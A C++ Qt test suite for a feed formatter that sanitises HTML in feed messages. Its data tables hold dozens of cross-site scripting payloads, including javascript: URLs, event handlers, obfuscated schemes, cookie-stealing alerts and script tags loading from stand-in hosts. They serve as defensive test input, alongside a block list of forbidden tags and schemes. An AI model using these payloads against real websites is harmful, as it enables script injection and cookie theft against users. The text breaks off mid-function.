#include "feedfilenamegenerator.h"
#include "feedformatter.h"
#include "htmlcommentreader.h"
#include "htmlentities.h"
#include "htmltag.h"
#include "htmlurl.h"
#include "testenvironment.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QRegularExpression>

class tst_FeedFormatter : public QObject
{
    Q_OBJECT

public:
    enum Step { Scripts, Links, Images, Dimensions, Whole };

private slots:
    void initTestCase();
    void init();
    void steps_data();
    void steps();
    void hostileVectors_data();
    void hostileVectors();
    void vectorsFollowTheRules_data();
    void vectorsFollowTheRules();
    void imagesAcrossMessages();
    void localizeOptionalEnclosures_data();
    void localizeOptionalEnclosures();
    void embeddedImages();
    void embeddedImageRefused_data();
    void embeddedImageRefused();

private:
    QString _directory;
};

namespace {

const QString pageBase = QStringLiteral("http://example.com/news/page.html");

QtMessageHandler testHandler = nullptr;
QStringList progress;

void keepProgress(QtMsgType type, const QMessageLogContext& context, const QString& message)
{
    // The formatter's progress lines are many: kept aside; its warnings reach the test.
    if (type == QtDebugMsg && message.startsWith(QLatin1String("Formatter\n")))
        progress << message.section(QLatin1Char('\n'), 5);
    else
        testHandler(type, context, message);
}

FeedMessage message(const QString& description, const QString& baseUrl = pageBase)
{
    FeedMessage result;
    result.setDescription(description);
    result.setBaseUrl(baseUrl);
    return result;
}

QStringList remoteUrls(const QList<FeedEnclosure>& enclosures)
{
    QStringList urls;
    for (const FeedEnclosure& enclosure : enclosures)
        urls << enclosure.remoteUrl();
    return urls;
}

QString local(const QString& url)
{
    return FeedFilenameGenerator().generateFileName(url);
}

// "@{url}" in an expected description stands for the local path of url.
QString expand(QString text)
{
    static const QRegularExpression placeholder(QStringLiteral("@\\{([^}]*)\\}"));
    QRegularExpressionMatch match;
    while ((match = placeholder.match(text)).hasMatch())
        text.replace(match.capturedStart(), match.capturedLength(),
                     local(match.captured(1)).replace(QLatin1Char('"'), QLatin1String("&quot;")));
    return text;
}

QString dataUrl(const QByteArray& bytes, const QString& type = QStringLiteral("image/png"))
{
    return QStringLiteral("data:") + type + QStringLiteral(";base64,") + QString::fromLatin1(bytes.toBase64());
}

const QStringList forbiddenStartTags = {"script", "style", "base", "object", "embed", "applet", "frame", "frameset",
                                        "portal"};
const QStringList urlAttributes = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data",
                                   "codebase", "cite", "longdesc", "lowsrc", "dynsrc", "from", "to", "by"};

bool isAllowedUrl(const QString& value, bool embeddedImage)
{
    const QString url = HtmlUrl::normalised(value);
    const QString scheme = HtmlUrl::scheme(url);
    if (embeddedImage && scheme == QLatin1String("data"))
        return QRegularExpression(QStringLiteral("^data:\\s*image/(png|gif|jpeg|webp)\\s*[;,]"),
                                  QRegularExpression::CaseInsensitiveOption).match(url).hasMatch();
    return QStringList({QString(), "http", "https", "mailto"}).contains(scheme);
}

// What is wrong with a tag of formatted output, read as a browser reads it; empty when nothing.
QString breachOf(const QString& text, const HtmlTag& tag)
{
    const QString name = tag.name().toString().toLower();
    if (!tag.isTerminated() || text.midRef(tag.start() + 1, tag.end() - tag.start() - 1).contains(QLatin1Char('<')))
        return QStringLiteral("a tag holds markup");
    if (tag.isEndTag())
        return QString();
    if (forbiddenStartTags.contains(name))
        return QStringLiteral("element ") + name;
    const HtmlTag::Attribute* frameSource = tag.attribute(QLatin1String("src"));
    if (name == QLatin1String("iframe")
        && !(frameSource && QStringList({"http", "https"}).contains(HtmlUrl::scheme(HtmlUrl::normalised(
               HtmlEntities::decode(tag.rawValue(*frameSource), HtmlEntities::Attribute))))))
        return QStringLiteral("a frame of no web page");
    for (const HtmlTag::Attribute& attribute : tag.attributes()) {
        const QString attributeName = tag.attributeName(attribute).toString().toLower();
        const QString value = HtmlEntities::decode(tag.rawValue(attribute), HtmlEntities::Attribute);
        if (attributeName.startsWith(QLatin1String("on")) || attributeName == QLatin1String("srcdoc")
            || attributeName == QLatin1String("http-equiv") || attributeName.startsWith(QLatin1Char('=')))
            return QStringLiteral("attribute ") + attributeName;
        if (attributeName == QLatin1String("attributename") && value.trimmed().startsWith(QLatin1String("on"), Qt::CaseInsensitive))
            return QStringLiteral("an animated handler");
        QStringList urls;
        if (attributeName == QLatin1String("srcset"))
            urls = value.split(QRegularExpression(QStringLiteral("[\\s,]")));
        else if (attributeName == QLatin1String("values"))
            urls = value.split(QLatin1Char(';'));
        else if (urlAttributes.contains(attributeName))
            urls = QStringList{value};
        const bool embeddedImage = name == QLatin1String("img") && attributeName == QLatin1String("src");
        for (const QString& url : qAsConst(urls)) {
            if (!isAllowedUrl(url, embeddedImage))
                return QStringLiteral("%1 of %2: %3").arg(attributeName, name, url);
        }
    }
    return QString();
}

// Every tag and comment of the output, as a browser would read them, against the rules.
QString breachOf(const QString& text)
{
    HtmlCommentReader comments(text);
    for (int position = text.indexOf(QLatin1Char('<')); position >= 0;) {
        int next = position + 1;
        if (HtmlTag::startsAt(text, position)) {
            const HtmlTag tag(text, position);
            const QString breach = breachOf(text, tag);
            if (!breach.isEmpty())
                return breach;
            next = tag.end();
        } else if (HtmlCommentReader::startsAt(text, position)) {
            const int end = comments.end(position);
            if (end < 0 || text.midRef(position + 1, end - position - 1).contains(QLatin1Char('<')))
                return QStringLiteral("a comment holds markup");
            next = end;
        }
        position = text.indexOf(QLatin1Char('<'), next);
    }
    return QString();
}

} // namespace

void tst_FeedFormatter::initTestCase()
{
    qunsetenv("VIRELON_ENCLOSURE_DIR");
    testHandler = qInstallMessageHandler(keepProgress);
    _directory = QDir::homePath() + QStringLiteral("/MyDocs/.feed/enclosures");
}

void tst_FeedFormatter::init()
{
    progress.clear();
    QDir(_directory).removeRecursively();
    QVERIFY(QDir().mkpath(_directory));
}

void tst_FeedFormatter::steps_data()
{
    QTest::addColumn<int>("step");
    QTest::addColumn<QString>("description");
    QTest::addColumn<QString>("baseUrl");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<QStringList>("enclosures");
    int step = Scripts;
    const auto row = [&step](const char* name, const char* description, const char* expected,
                             const QStringList& enclosures = {}, const QString& base = pageBase) {
        QTest::newRow(name) << step << QString::fromUtf8(description) << base << QString::fromUtf8(expected)
                            << enclosures;
    };
    // Regression: one greedy match ate everything between the first and the last script.
    row("text between scripts survives",
        "<p>one</p><script>a()</script><p>between</p><script type=\"x\">b()</script><p>after</p>",
        "<p>one</p><p>between</p><p>after</p>");
    row("upper and mixed case", "<SCRIPT>evil()</SCRIPT>kept<ScRiPt>x</sCrIpT> too", "kept too");
    // Regression: a closing noscript ended a script match.
    row("noscript is no script end", "<noscript>no js</noscript> a <script>x</script> b </noscript> end",
        "<noscript>no js</noscript> a  b </noscript> end");
    // Regression: an unclosed script or style took all the text after it.
    row("unclosed script goes alone", "before <script src=\"x.js\">never closed", "before never closed");
    row("unterminated script tag is text", "before <script", "before &lt;script");
    row("self-closed script goes alone", "<svg><script href=\"x.js\"/></svg>words<script/>more",
        "<svg></svg>wordsmore");
    row("script with an unterminated end tag", "<script>x</script a", "x&lt;/script a");
    row("closing tag with blanks", "a<script>x</script >b<script>y</SCRIPT\n>c", "abc");
    row("script ends at its first end tag", "<script>s='</script>';</script>tail", "';</script>tail");
    row("styles each on its own", "<style>p{}</style>words<STYLE type=\"text/css\">q{}</STYLE>more<style>c",
        "wordsmorec");
    row("names that only begin alike", "<scripts>x</scripts><styles>y</styles>",
        "<scripts>x</scripts><styles>y</styles>");
    row("script in a comment stays hidden", "<!-- <script>x</script> --> words",
        "<!-- &lt;script>x&lt;/script> --> words");
    row("abrupt comment hides nothing", "<!--> <script>alert(1)</script> -->", "<!-->  -->");
    row("script in an attribute value is text", "<img alt=\"<script>\" src=\"a.png\"> text </script>",
        "<img alt=\"&lt;script>\" src=\"a.png\"> text </script>");
    row("split script tag", "<scr<script>x</script>ipt>alert(1)</script>",
        "<scr&lt;script>x</script>ipt>alert(1)</script>");
    // Each of these took one more pass over the whole text per level of nesting.
    row("bracket before a script", "<<script>x</script>script>y", "&lt;script>y");
    row("junk name after a handler", "<a href onclick=x =javascript:alert(1)>t</a>", "<a href  >t</a>");
    row("event handlers in every case", "<p class='c' ONMOUSEOVER='x' OnClick=\"y\" id=z>t</p>",
        "<p class='c'   id=z>t</p>");
    row("handlers after a bracket in a value, a quote, a slash",
        "<a title=\"x>\" onclick=\"alert(1)\">t</a><b id=\"1\"onclick=\"x\">t</b><svg/onload=alert(1)>",
        "<a title=\"x>\" >t</a><b id=\"1\">t</b><svg/>");
    row("script targets", "<a href=\"javascript:alert(1)\">l</a><a href='vbscript:m'>y</a><img src=\"JAVASCRIPT:x\">",
        "<a >l</a><a >y</a><img >");
    row("harmless schemes stay", "<a href=\"https://example.com/javascript:x\">t</a><a href=\"mailto:a@b\">m</a>",
        "<a href=\"https://example.com/javascript:x\">t</a><a href=\"mailto:a@b\">m</a>");
    row("data only as an image", "<a href=\"data:image/png;base64,AAAA\">f</a><img src=\"data:image/png;base64,AAAA\">",
        "<a >f</a><img src=\"data:image/png;base64,AAAA\">");
    row("meta refresh", "<meta HTTP-EQUIV=\"refresh\" content=\"0;url=http://x.example/\">",
        "<meta  content=\"0;url=http://x.example/\">");
    row("animated handler", "<svg><set attributeName=\"&#111;nmouseover\" to=\"alert(1)\"/></svg>",
        "<svg><set  to=\"alert(1)\"/></svg>");
    row("srcdoc", "<iframe src=\"https://v.example/e\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"https://v.example/e\" ></iframe>");
    row("unterminated tag is shown as text", "a < b and c<d", "a < b and c&lt;d");
    // The tag runs to the end of the text: read once, not again at every later "<".
    row("unterminated quoted value", "x <img src=\"a.png onerror=alert(1)> <b>b</b>",
        "x &lt;img src=\"a.png onerror=alert(1)> &lt;b>b&lt;/b>");
    row("bracket in a comment", "<textarea><!--</textarea><img src=x onerror=alert(1)>--></textarea>",
        "<textarea><!--&lt;/textarea>&lt;img src=x onerror=alert(1)>--></textarea>");
    row("entities kept", "<p title=\"&quot;q&quot;\">&lt;b&gt; &amp; &#233;</p>",
        "<p title=\"&quot;q&quot;\">&lt;b&gt; &amp; &#233;</p>");

    step = Links;
    row("relative and fragment", "<a href=\"more.html\">m</a><a href=\"#top\">t</a>",
        "<a href=\"http://example.com/news/more.html\">m</a><a href=\"http://example.com/news/page.html#top\">t</a>");
    row("single and no quotes", "<a href='/x'>t</a><a href=x.html>t</a>",
        "<a href='http://example.com/x'>t</a><a href=\"http://example.com/news/x.html\">t</a>");
    row("absolute and empty stay", "<a href=\"https://other.org/a?b=1&amp;c=2\">t</a><a href=\"\">e</a>",
        "<a href=\"https://other.org/a?b=1&amp;c=2\">t</a><a href=\"\">e</a>");
    // Regression: the value ran to the last quote before the next blank and swallowed the text.
    row("apostrophe after the link", "<a href=\"page2.html\">John</a>'s book",
        "<a href=\"http://example.com/news/page2.html\">John</a>'s book");
    row("upper case and line breaks", "<A\n  class=\"c\"\n  HREF = \"up.html\">u</A>",
        "<A\n  class=\"c\"\n  HREF = \"http://example.com/news/up.html\">u</A>");
    row("other attributes and tags", "<a data-href=\"d.html\" href=\"h.html\">t</a><abbr href=\"x\">t</abbr>",
        "<a data-href=\"d.html\" href=\"http://example.com/news/h.html\">t</a><abbr href=\"x\">t</abbr>");
    row("no base", "<a href=\"more.html\">m</a>", "<a href=\"more.html\">m</a>", {}, QString());
    row("hostile base", "<a href=\"x\">t</a>", "<a href=\"x\">t</a>", {}, QStringLiteral("javascript:alert(1)//"));
    row("data base", "<a href=\"x\">t</a>", "<a href=\"x\">t</a>", {},
        QStringLiteral("data:text/html,<script>alert(1)</script>/"));

    step = Images;
    row("every quoting style", "<img src=\"/1.png\"><img src='/2.png'><img src=/3.png>",
        "<img src=\"@{http://example.com/1.png}\"><img src='@{http://example.com/2.png}'>"
        "<img src=\"@{http://example.com/3.png}\">",
        {QStringLiteral("http://example.com/1.png"), QStringLiteral("http://example.com/2.png"),
         QStringLiteral("http://example.com/3.png")});
    row("upper case, split over lines", "<IMG\n\tALT=\"x\"\n\tSRC = \"http://cdn.example.org/b.gif\">",
        "<IMG\n\tALT=\"x\"\n\tSRC = \"@{http://cdn.example.org/b.gif}\">", {QStringLiteral("http://cdn.example.org/b.gif")});
    // Regression: the value ran on to the apostrophe and queued a bogus download.
    row("apostrophe after the image", "<img src=\"a.png\">John's",
        "<img src=\"@{http://example.com/news/a.png}\">John's", {QStringLiteral("http://example.com/news/a.png")});
    row("entity in the source", "<img src=\"http://x.org/i.png?a=1&amp;b=2\">",
        "<img src=\"@{http://x.org/i.png?a=1&b=2}\">", {QStringLiteral("http://x.org/i.png?a=1&b=2")});
    row("same image twice, blanks around", "<img src=\" /s.png\n\"><img src=\"http://example.com/s.png\">",
        "<img src=\"@{http://example.com/s.png}\"><img src=\"@{http://example.com/s.png}\">",
        {QStringLiteral("http://example.com/s.png")});
    row("no scheme without a base", "<img src=\"pics/a.jpg\">", "<img src=\"pics/a.jpg\">", {}, QString());
    row("local file", "<img src=\"file:///etc/passwd\">", "<img src=\"file:///etc/passwd\">");
    row("empty source", "<img src=\"\"><img src>", "<img src=\"\"><img src>");
    row("src is the shown source", "<img src=\"a.jpg\" data-src=\"real.jpg\">",
        "<img src=\"@{http://example.com/news/a.jpg}\" data-src=\"real.jpg\">",
        {QStringLiteral("http://example.com/news/a.jpg")});
    row("quote in the local name is escaped", "<img src=\"http://x.org/a%22b.jpg\">",
        "<img src=\"@{http://x.org/a%22b.jpg}\">", {QStringLiteral("http://x.org/a%22b.jpg")});

    step = Dimensions;
    row("both, past unit-less values", "<img width=\"5\"><p>t</p><img width=\"7px\" height='8px'>",
        "<img width=\"5\"><p>t</p><img width=\"7\" height='8'>");
    row("doubled unit", "<img width=\"1pxpx\">", "<img width=\"1\">");
    row("unquoted, blank around =", "<IMG WIDTH = 3px>", "<IMG WIDTH = \"3\">");
    row("other units, tags and names", "<img width=\"50%\" data-width=\"4px\"><td width=\"9px\">x</td>",
        "<img width=\"50%\" data-width=\"4px\"><td width=\"9px\">x</td>");

    step = Whole;
    row("blog engine",
        "<div class=\"entry\">\n"
        "<p><a href=\"/2024/05/trip/\" rel=\"bookmark\">Our trip</a> &amp; what we&#8217;ve seen.</p>\n"
        "<script type=\"text/javascript\">var _gaq = _gaq || []; _gaq.push(['_track']);</script>\n"
        "<p><img class=\"aligncenter\" src=\"/wp-content/uploads/photo-1024x768.jpg\" alt=\"Photo\"\n"
        "   width=\"1024px\" height=\"768px\" onload=\"lazy(this)\" /></p>\n"
        "<style>.entry{color:red}</style>\n"
        "<p>Read <a href='http://other.example.org/x?y=1&amp;z=2'>more</a> or <a href=\"#comments\">comment</a>.</p>\n"
        "<img src=\"http://feeds.example.net/~r/pixel/1\" height=\"1\" width=\"1\"/>\n"
        "</div>",
        "<div class=\"entry\">\n"
        "<p><a href=\"http://blog.example.com/2024/05/trip/\" rel=\"bookmark\">Our trip</a> &amp; what we&#8217;ve seen.</p>\n"
        "\n"
        "<p><img class=\"aligncenter\" src=\"@{http://blog.example.com/wp-content/uploads/photo-1024x768.jpg}\" alt=\"Photo\"\n"
        "   width=\"1024\" height=\"768\"  /></p>\n"
        "\n"
        "<p>Read <a href='http://other.example.org/x?y=1&amp;z=2'>more</a> or "
        "<a href=\"http://blog.example.com/2024/05/trip.html#comments\">comment</a>.</p>\n"
        "<img src=\"@{http://feeds.example.net/~r/pixel/1}\" height=\"1\" width=\"1\"/>\n"
        "</div>",
        {QStringLiteral("http://blog.example.com/wp-content/uploads/photo-1024x768.jpg"),
         QStringLiteral("http://feeds.example.net/~r/pixel/1")},
        QStringLiteral("http://blog.example.com/2024/05/trip.html"));
}

// Each step on its own, and the whole walk over a real-world message.
void tst_FeedFormatter::steps()
{
    QFETCH(int, step);
    QFETCH(QString, description);
    QFETCH(QString, baseUrl);
    QFETCH(QString, expected);
    QFETCH(QStringList, enclosures);
    FeedMessage formatted = message(description, baseUrl);
    FeedFormatter formatter;
    switch (step) {
    case Scripts: formatter.removeScriptsAndStyles(formatted); break;
    case Links: formatter.resolveRelativeHyperlinks(formatted); break;
    case Images: formatter.localizeImages(formatted); break;
    case Dimensions: formatter.formatImageDimensions(formatted); break;
    default: formatted = formatter.formatMessage(formatted); break;
    }
    QCOMPARE(formatted.description(), expand(expected));
    QCOMPARE(remoteUrls(formatted.enclosures()), enclosures);
    for (const FeedEnclosure& enclosure : formatted.enclosures()) {
        QCOMPARE(enclosure.localUrl(), local(enclosure.remoteUrl()));
        QCOMPARE(enclosure.type(), FeedEnclosure::Essential);
        QVERIFY2(step == Whole || enclosure.mimeType().startsWith(QLatin1String("image/")),
                 qPrintable(enclosure.mimeType()));
    }
}

void tst_FeedFormatter::hostileVectors_data()
{
    QTest::addColumn<QString>("vector");
    QTest::addColumn<QString>("expected"); // %1 and %2 stand for the prose before and after
    QTest::addColumn<QString>("baseUrl");
    const auto row = [](const char* name, const char* vector, const char* expected, const QString& base = QString()) {
        QTest::newRow(name) << QString::fromUtf8(vector) << QString::fromUtf8(expected) << base;
    };
    // Schemes as a browser reads them: references decoded, controls and blanks around and
    // every tab and line break inside dropped.
    row("tab reference in a frame's scheme", "<iframe src=\"da&#9;ta:text/html,<script>alert(1)</script>\">x</iframe>",
        "%1x</iframe>%2");
    row("control before the scheme", "<iframe src=\"&#1;data:text/html,x\"></iframe>", "%1</iframe>%2");
    row("tab before the colon", "<a href=\"DATA&#x9;:text/html,x\">t</a>", "%1<a >t</a>%2");
    row("named tab and colon", "<a href=\"java&Tab;script&colon;alert(1)\">t</a>", "%1<a >t</a>%2");
    row("blank reference, raw line break", "<a href=\"&#x20;javascript:alert(1)\">t</a><a href=\"jav\nascript:x\">u</a>",
        "%1<a >t</a><a >u</a>%2");
    row("references without semicolons",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>",
        "%1<IMG >%2");
    row("other schemes", "<a href=\"file:///etc/passwd\">f</a><a href=\"ftp://x.example/y\">g</a>"
                         "<a href=\"mailto:a@b.example\">m</a><a href=\"/rel\">r</a>",
        "%1<a >f</a><a >g</a><a href=\"mailto:a@b.example\">m</a><a href=\"/rel\">r</a>%2");
    row("every attribute that holds a link",
        "<form action=\"vbscript:x\"><button formaction=\"javascript:y\">b</button></form>"
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg><math href=\"javascript:z\">m</math>"
        "<video poster=\"javascript:x\"></video><table background=\"file:///x\"><tr><td>c</td></tr></table>"
        "<blockquote cite=\"data:text/html,x\">q</blockquote><input type=\"image\" src=\"javascript:x\">"
        "<link rel=\"import\" href=\"data:text/html,x\">",
        "%1<form ><button >b</button></form><svg><a ><text>t</text></a></svg><math >m</math><video ></video>"
        "<table ><tr><td>c</td></tr></table><blockquote >q</blockquote><input type=\"image\" >"
        "<link rel=\"import\" >%2");
    row("source set candidates", "<source srcset=\"a.png 1x,javascript:alert(1) 2x\"><source srcset=\"a.png 1x, b.png 2x\">",
        "%1<source ><source srcset=\"a.png 1x, b.png 2x\">%2");
    row("embedded data only as an image's source",
        "<a href=\"data:image/png;base64,AAAA\">l</a><img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "%1<a >l</a><img >%2");
    row("base", "<base href=\"http://evil.example/\">", "%1%2");
    row("object, embed and applet", "<object data=\"x.swf\"><param name=\"a\" value=\"b\">fallback</object>"
                                    "<embed src=\"x.swf\"><applet code=\"A\">applet text</applet>",
        "%1<param name=\"a\" value=\"b\">fallbackapplet text%2");
    row("frames and portals", "<frameset><frame src=\"http://x.example/\"></frameset><portal src=\"https://x.example/\"></portal>",
        "%1%2");
    row("video frame keeps its source, loses srcdoc and handlers",
        "<iframe src=\"https://v.example/embed/x\" srcdoc=\"<script>alert(1)</script>\" onload=\"x()\"></iframe>",
        "%1<iframe src=\"https://v.example/embed/x\"  ></iframe>%2");
    row("frame relative to the message", "<iframe src=\"//v.example/embed/y\"></iframe>",
        "%1<iframe src=\"http://v.example/embed/y\"></iframe>%2", QStringLiteral("http://blog.example/p.html"));
    row("frame without a source", "<iframe width=\"5\"></iframe>", "%1</iframe>%2");
    row("unclosed script", "<script>alert(1)", "%1alert(1)%2");
    row("unclosed style", "<style>p{color:red}", "%1p{color:red}%2");
    row("self-closed svg script", "<svg><script href=\"x.js\"/></svg>", "%1<svg></svg>%2");
    row("closed script", "<script>alert(1)</script>", "%1%2");
    row("svg animation", "<svg><animate attributeName=\"href\" values=\"x;javascript:alert(1)\"/>"
                         "<set attributeName=\"href\" to=\"javascript:alert(1)\"/>"
                         "<animate attributeName=\"&#111;nclick\" to=\"alert(1)\"/></svg>",
        "%1<svg><animate attributeName=\"href\" /><set attributeName=\"href\" /><animate  to=\"alert(1)\"/></svg>%2");
    row("event handlers", "<svg/onload=alert(1)><div onmouseover\n=\n\"alert(1)\">d</div>", "%1<svg/><div >d</div>%2");
    row("markup inside a value", "<a title=\"</a><img src=x onerror=alert(1)>\">t</a>",
        "%1<a title=\"&lt;/a>&lt;img src=x onerror=alert(1)>\">t</a>%2");
    row("markup inside a comment", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "%1<!--&lt;img src=\"--><img src=x >%2");
    row("raw text element ends inside a value", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "%1<noscript><p title=\"&lt;/noscript>&lt;img src=x onerror=alert(1)>\"></noscript>%2");
    row("unclosed comment", "<!-- never closed <img src=x onerror=alert(1)>", "%1&lt;!-- never closed <img src=x >%2");
    // A browser would show nothing after it; its words stay, as text.
    row("unterminated tag", "<img src=\"a.png onerror=alert(1)>",
        "%1&lt;img src=\"a.png onerror=alert(1)>&lt;p>Delta echo foxtrot.&lt;/p>");
}

// Each vector between two paragraphs of prose: the vector is defused as the table says, and
// every word of the prose is there.
void tst_FeedFormatter::hostileVectors()
{
    QFETCH(QString, vector);
    QFETCH(QString, expected);
    QFETCH(QString, baseUrl);
    const QString before = QStringLiteral("<p>Alpha bravo charlie.</p>");
    const QString after = QStringLiteral("<p>Delta echo foxtrot.</p>");
    const QString formatted = FeedFormatter().formatMessage(message(before + vector + after, baseUrl)).description();
    QCOMPARE(formatted, expected.replace(QLatin1String("%1"), before).replace(QLatin1String("%2"), after));
    QVERIFY(formatted.contains(QLatin1String("Alpha bravo charlie.")));
    QVERIFY(formatted.contains(QLatin1String("Delta echo foxtrot.")));
    // Nothing is left that a second reading would find.
    FeedMessage again = message(formatted, baseUrl);
    FeedFormatter().removeScriptsAndStyles(again);
    QCOMPARE(again.description(), formatted);
}

void tst_FeedFormatter::vectorsFollowTheRules_data()
{
    QTest::addColumn<QString>("vector");
    const char* const vectors[] = {
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\"><IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://x.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://x.example/xss.js?< B >",
        "<SCRIPT SRC=//x.example/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://x.example/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\"><BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\"><IMG DYNSRC=\"javascript:x\"><IMG LOWSRC=\"javascript:x\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')><BODY ONLOAD=alert('XSS')>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME><IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://x.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\">",
        "<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">X</a><a href=\"&#x6A;avascript:alert(1)\">Y</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>",
        "<form><button formaction=javascript:alert(1)>X</button><isindex action=javascript:alert(1) type=image>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/><video><source onerror=\"alert(1)\">",
        "<details open ontoggle=alert(1)>",
        "<iframe srcdoc=\"&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;\" />",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img srcset=\"data:image/png;base64,AAAA 1x\">",
        "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"livescript:x\">l</a><a href=\"file:///etc/passwd\">f</a>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]--><!--><img src=x onerror=alert(1)>-->",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><![CDATA[<img src=x onerror=alert(1)>]]>",
        "<scr<script>ipt>alert(1)</scr</script>ipt><a href onclick=x =javascript:alert(1)>t</a>",
    };
    for (const char* vector : vectors)
        QTest::newRow(vector) << QString::fromUtf8(vector);
}

// A broad list of known vectors, run through the whole formatter: what comes out keeps no
// script, handler, script or data target, frame of no web page, srcdoc or base, as a browser
// would read it, and the prose around it stays.
void tst_FeedFormatter::vectorsFollowTheRules()
{
    QFETCH(QString, vector);
    const QString formatted =
        FeedFormatter()
            .formatMessage(message(QStringLiteral("<p>Alpha bravo.</p>") + vector + QStringLiteral("<p>Charlie delta.</p>")))
            .description();
    const QString breach = breachOf(formatted);
    QVERIFY2(breach.isEmpty(), qPrintable(breach + QStringLiteral(" in ") + formatted));
    QVERIFY2(formatted.startsWith(QLatin1String("<p>Alpha bravo.</p>")), qPrintable(formatted));
    QVERIFY2(formatted.contains(QLatin1String("Charlie delta.")), qPrintable(formatted));
}

void tst_FeedFormatter::imagesAcrossMessages()
{
    FeedEnclosure media;
    media.setRemoteUrl(QStringLiteral("http://example.com/show.mp3"));
    media.setType(FeedEnclosure::Optional);
    FeedMessage first = message(QStringLiteral("<img src=\"/shared.png\">"));
    first.setEnclosures({media});
    const FeedMessage second = message(QStringLiteral("<p><img src='http://example.com/shared.png'></p>"));
    const FeedMessage third = message(QStringLiteral("<img src=\"download.php?id=7\">"));
    const QList<FeedMessage> formatted = FeedFormatter().formatMessages({first, second, third});
    QCOMPARE(formatted.size(), 3);
    const QString shared = QStringLiteral("http://example.com/shared.png");
    // Every message that shows the image holds its enclosure, after the feed's own.
    QCOMPARE(remoteUrls(formatted.at(0).enclosures()), QStringList({media.remoteUrl(), shared}));
    QCOMPARE(remoteUrls(formatted.at(1).enclosures()), QStringList({shared}));
    // A script name does not make an image a script.
    QCOMPARE(formatted.at(2).enclosures().size(), 1);
    QCOMPARE(formatted.at(2).enclosures().first().mimeType(), QString());
}

void tst_FeedFormatter::localizeOptionalEnclosures_data()
{
    QTest::addColumn<QString>("remoteUrl");
    QTest::addColumn<QString>("mimeType");
    QTest::addColumn<QString>("expectedMime");
    QTest::addColumn<QString>("expectedIcon");
    QTest::newRow("type from the name") << "http://x.org/a.mp3" << "" << "audio/mpeg" << "audio-mpeg";
    // Regression: the name's extension replaced the feed's type.
    QTest::newRow("script name, declared type") << "http://x.org/download.php?id=7" << "video/mp4" << "video/mp4"
                                                << "video-mp4";
    QTest::newRow("unknown declared type kept") << "http://x.org/a.mp3" << "audio/x-nothing-known"
                                                << "audio/x-nothing-known" << "";
    QTest::newRow("nothing known") << "http://x.org/blob" << "" << "" << "";
}

void tst_FeedFormatter::localizeOptionalEnclosures()
{
    QFETCH(QString, remoteUrl);
    QFETCH(QString, mimeType);
    QFETCH(QString, expectedMime);
    QFETCH(QString, expectedIcon);
    FeedEnclosure enclosure;
    enclosure.setRemoteUrl(remoteUrl);
    enclosure.setMimeType(mimeType);
    enclosure.setType(FeedEnclosure::Optional);
    FeedMessage formatted = message(QString());
    formatted.setEnclosures({enclosure});
    FeedFormatter().localizeOptionalEnclosures(formatted);
